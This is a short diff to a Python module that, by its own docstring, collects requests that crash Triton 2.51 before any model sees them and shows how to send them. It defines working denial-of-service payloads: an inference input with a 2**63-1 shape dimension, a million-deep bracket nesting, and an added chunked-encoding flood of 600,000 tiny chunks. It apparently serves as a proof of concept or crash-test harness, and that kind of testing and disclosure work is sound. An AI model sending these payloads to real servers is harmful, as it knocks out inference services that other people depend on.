@@ -1,4 +1,4 @@
-"""Two requests of which Triton 2.51 dies before any model sees them, and how to send them."""
+"""Requests of which Triton 2.51 dies before any model sees them, and how to send them."""
 
 from __future__ import annotations
 
@@ -9,6 +9,9 @@ from urllib.parse import urlsplit
 _ROW = {"name": "image", "datatype": "UINT8", "shape": [1, 2**63 - 1], "data": [0]}
 WIDE = json.dumps({"inputs": [_ROW]})
 DEEP = "[" * 1_000_000 + "]" * 1_000_000
+
+CHUNKED = {"Transfer-Encoding": "chunked"}
+FLOOD = b"1\r\n \r\n" * 600_000 + b"0\r\n\r\n"
 
 
 def post(
